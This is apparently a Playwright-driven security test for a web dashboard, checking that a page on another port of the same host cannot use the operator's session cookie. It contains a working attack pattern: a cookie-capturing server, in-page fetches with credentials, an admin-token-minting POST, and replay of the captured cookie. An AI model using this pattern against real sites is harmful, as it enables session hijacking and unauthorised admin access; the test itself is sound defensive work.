// A page on another port of the dashboard's host, opened by a logged-in
// operator in a real browser (Debian's Chromium driven by playwright-core):
// the browser hands it the session cookie, since cookies ignore ports.
// Neither the page's script nor the process serving it (this script) may
// reach the dashboard's API with it.
//
// Environment: DASHBOARD_URL, ADMIN_TOKEN, SHOTS, CHROMIUM, PLAYWRIGHT.
// Prints one line per step; exits 1 at the first failure.

import http from 'node:http';
import { join } from 'node:path';
import { expect, launch, newPage, step } from './harness.mjs';

const env = process.env;
const dashboard = new URL(env.DASHBOARD_URL);
const MINT = JSON.stringify({ name: 'stolen', scope: 'TOKEN_SCOPE_ADMIN' });

// The other port: records the cookies the browser sends it and what its
// page's script could reach.
const seen = { cookies: [], report: null };
let reported;
const reportArrived = new Promise((resolve) => { reported = resolve; });
const attacker = http.createServer((req, res) => {
  if (req.headers.cookie) seen.cookies.push(req.headers.cookie);
  if (req.url === '/report') {
    let body = '';
    req.on('data', (chunk) => { body += chunk; });
    req.on('end', () => { seen.report = JSON.parse(body); res.end('{}'); reported(); });
    return;
  }
  res.setHeader('Content-Type', 'text/html');
  res.end(`<!doctype html><title>A link</title><script>
    const dash = ${JSON.stringify(dashboard.origin)};
    const tries = {};
    async function attempt(name, run) {
      try { tries[name] = await run(); } catch (err) { tries[name] = 'blocked: ' + err.message; }
    }
    (async () => {
      await attempt('session', async () => {
        const res = await fetch(dash + '/api/session', { credentials: 'include' });
        return 'read ' + res.status + ' ' + (await res.text());
      });
      await attempt('mint', async () => {
        const res = await fetch(dash + '/api/rpc/CreateToken', { method: 'POST', mode: 'no-cors',
          credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: ${JSON.stringify(MINT)} });
        return 'sent ' + res.type;
      });
      await fetch('/report', { method: 'POST', body: JSON.stringify(tries) });
    })();
  </script>`);
});
await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
const attackerUrl = `http://127.0.0.1:${attacker.address().port}/`;

// A request from this process to the dashboard, as curl would send it.
function call(method, path, headers, body) {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: dashboard.hostname, port: dashboard.port, method, path, headers }, (res) => {
      let text = '';
      res.on('data', (chunk) => { text += chunk; });
      res.on('end', () => resolve({ status: res.statusCode, body: text }));
    });
    req.on('error', reject);
    req.end(body || '');
  });
}

const browser = await launch();
const problems = [];
let failed = false;
try {
  const page = await newPage(browser, problems);

  await step('the operator logs in', async () => {
    await page.goto(env.DASHBOARD_URL);
    await page.fill('#login-token', env.ADMIN_TOKEN);
    await page.click('#login-submit');
    await page.waitForSelector('#logout');
  });

  await step('the page on another port is handed the cookie', async () => {
    // In a tab of its own, as a link opens: its refused calls are no page problem.
    const link = await page.context().newPage();
    await link.goto(attackerUrl);
    await Promise.race([reportArrived, new Promise((_, no) => setTimeout(() => no(new Error('no report')), 20000))]);
    const name = `hivekernel-${dashboard.port}=`;
    expect(seen.cookies.some((cookie) => cookie.includes(name)),
      `the browser did not send ${name} to another port: ${JSON.stringify(seen.cookies)}`);
    expect(/^blocked/.test(seen.report.session), `the page read the session: ${seen.report.session}`);
    await link.close();
  });

  await step('the stolen cookie mints nothing', async () => {
    const cookie = seen.cookies.find((c) => c.includes(`hivekernel-${dashboard.port}=`));
    const json = { Cookie: cookie, 'Content-Type': 'application/json' };
    const session = await call('GET', '/api/session', { Cookie: cookie });
    expect(session.status === 401, `GET /api/session with the cookie: ${session.status} ${session.body}`);
    const minted = await call('POST', '/api/rpc/CreateToken', json, MINT);
    expect(minted.status === 401, `CreateToken with the cookie: ${minted.status} ${minted.body}`);
    const ticket = await call('POST', '/api/ticket', json, '{}');
    expect(ticket.status === 401, `a ticket with the cookie: ${ticket.status} ${ticket.body}`);
  });

  await step('the operator\'s tab keeps its session across a reload; a new tab signs in', async () => {
    await page.goto(env.DASHBOARD_URL);
    await page.waitForSelector('#logout');
    await page.screenshot({ path: join(env.SHOTS, 'after-stolen-cookie.png') });
    const other = await page.context().newPage();
    await other.goto(env.DASHBOARD_URL);
    await other.waitForSelector('#login-token');
    await other.close();
  });

  expect(problems.length === 0, `the page reported: ${problems.join('; ')}`);
} catch (err) {
  failed = true;
  if (problems.length) console.log(`page problems: ${problems.join('; ')}`);
} finally {
  await browser.close();
  attacker.close();
}
process.exit(failed ? 1 : 0);
